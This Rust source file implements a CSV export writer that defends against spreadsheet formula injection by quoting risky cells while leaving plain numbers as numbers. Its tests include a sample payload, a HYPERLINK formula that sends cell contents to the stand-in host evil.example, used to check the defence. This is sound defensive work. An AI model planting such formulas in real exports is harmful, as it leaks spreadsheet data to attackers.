//! The one CSV writer of every export (reports' period exports, billing's invoice CSVs): RFC
//! 4180 by the `csv` crate (quoted where needed, rows ending in CRLF), with spreadsheet
//! formulas neutralised.
//!
//! **Formula injection.** A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab
//! or a carriage return as a formula, and names, notes and memos are typed by outsiders (a
//! client can register as `=HYPERLINK(…)`). As OWASP recommends, such a cell gets a leading
//! single quote and is otherwise kept as it is. Plain numbers are left alone, so a negative
//! amount stays a number.

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written: a leading `'` when a spreadsheet would read it as a formula.
fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(FORMULA_STARTS) && !is_plain_number(cell);
    if risky {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// `-1200`, `+5`, `-12.50`: a sign, digits and at most one decimal point.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && parts.next().is_none_or(all_digits)
}

/// One row, CRLF-terminated, appended to `out`.
pub fn row(fields: &[String], out: &mut String) {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    writer
        .write_record(fields.iter().map(|f| neutralised(f).into_owned()))
        .expect("writing to memory cannot fail");
    let bytes = writer.into_inner().expect("writing to memory cannot fail");
    out.push_str(&String::from_utf8(bytes).expect("the cells were text"));
}

/// One cell as it appears in a row (without the row's end).
pub fn field(s: &str) -> String {
    let mut line = String::new();
    row(&[s.to_string()], &mut line);
    let cell = line.trim_end_matches("\r\n");
    // The crate writes a lone empty cell as `""` so the row is not blank; in a row of
    // several it is written as nothing, which is what this shows.
    if cell == "\"\"" {
        String::new()
    } else {
        cell.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_are_quoted_only_where_needed() {
        assert_eq!(field("plain"), "plain");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(field("two\nlines"), "\"two\nlines\"");
        assert_eq!(field(""), "");
        let mut out = String::new();
        row(&["a".into(), String::new(), "c".into()], &mut out);
        assert_eq!(out, "a,,c\r\n");
    }

    #[test]
    fn formula_cells_get_a_leading_quote_and_numbers_stay_numbers() {
        let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        assert_eq!(
            field(payload),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
        );
        for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1"] {
            assert!(
                field(risky).trim_start_matches('"').starts_with('\''),
                "{risky:?}"
            );
        }
        for number in ["-1200", "+5", "-12.50", "0", "42"] {
            assert_eq!(field(number), number);
        }
        assert_eq!(field("-"), "'-");
        assert_eq!(field("a=b"), "a=b");
    }
}
